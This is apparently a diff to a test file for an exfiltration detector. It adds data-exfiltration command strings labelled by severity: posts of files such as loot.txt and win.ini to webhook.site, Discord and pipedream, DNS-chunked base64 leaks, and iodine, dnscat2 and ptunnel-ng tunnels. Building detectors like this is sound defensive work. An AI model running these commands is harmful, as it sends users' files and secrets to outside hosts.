@@ -42,6 +42,15 @@ DROPS = [
     ('$url = "https://pastebin.com/api/api_post.php"; Invoke-RestMethod -Uri $url -Method Post -Body $paste', "medium"),
     ("rclone config create pub ftp host ftp.dlptest.com user u pass p; rclone copy $f pub:", "medium"),
     ("echo sample > /tmp/s.txt && curl -F f=@/tmp/s.txt https://0x0.st", "medium"),
+    ("$c = Get-Content C:\\Users\\Public\\loot.txt; Invoke-RestMethod -Uri https://webhook.site/abc -Method Post "
+     "-Body $c", "medium"),
+    ('$hook = "https://discord.com/api/webhooks/1/x"; Invoke-RestMethod -Uri $hook -Method Post '
+     '-Body (Get-Content C:\\Windows\\win.ini -Raw)', "medium"),
+    ('d=$(head -c 4000 /var/log/syslog); wget --post-data="$d" https://requestrepo.com/r/abc', "medium"),
+    ('body=$(cat /etc/os-release); xh POST https://eo1x.m.pipedream.net --raw "$body"', "medium"),
+    ('d=$(cat notes.txt); curl -d "$d" https://webhook.site/abc', None),
+    ("$c = Get-Content C:\\Users\\Public\\loot.txt; Invoke-RestMethod -Uri https://api.example.com/upload "
+     "-Method Post -Body $c", None),
     ("pandoc /etc/hosts -o /tmp/h.pdf && curl -T /tmp/h.pdf https://transfer.sh/h.pdf", "medium"),
     # a body in PowerShell's parentheses, .NET's upload calls, a file client's own `put` in a script or here-string
     ("Invoke-RestMethod -Uri https://webhook.site/abc -Method Post -Body (Get-Content C:\\Windows\\win.ini -Raw)",
@@ -102,6 +111,18 @@ COVERT = [
     ("nping --udp -p 53 --data $(xxd -p -c 200 notes.txt | head -1) 203.0.113.5", "high"),
     ("$ping = New-Object System.Net.NetworkInformation.Ping; foreach ($d in Get-Content -Path C:\\data\\a.bin "
      "-Encoding Byte -ReadCount 1024) { $ping.Send('203.0.113.5', 1500, $d) }", "medium"),
+    # encoded data looked up piece by piece with the name in a variable; DNS and ICMP tunnels; tools named for it
+    ('$e = [Convert]::ToBase64String([IO.File]::ReadAllBytes("C:\\x\\a.bin")); foreach ($c in $e -split "(.{30})") '
+     '{ $n = $c + ".x.example.com"; Resolve-DnsName -Name $n }', "high"),
+    ("for c in $(base64 -w 40 /etc/hosts); do n=$c.x.example.com; nslookup $n; done", "high"),
+    ("iodine -f -P s3cret 203.0.113.5 t.example.com", "medium"),
+    ("dnscat2 --dns server=203.0.113.5,domain=t.example.com --secret=abc", "medium"),
+    ("sudo ptunnel-ng -p 203.0.113.5 -l 2222 -r 127.0.0.1 -R 22", "medium"),
+    ("python3 dnsexfil.py -f /tmp/data.txt -d x.example.com", "medium"),
+    ("foreach ($h in $hosts) { Resolve-DnsName $h }", None),
+    ("for h in $(cat hosts.txt); do n=$h.example.com; dig $n; done", None),
+    ("cat exfil-notes.md", None),
+    ("iodine --help", None),
     # raw sockets fed encoded data or a whole system directory
     ("base64 notes.txt | nc 203.0.113.5 9000", "medium"),
     ("xxd -p notes.txt | ncat 203.0.113.5 443", "medium"),
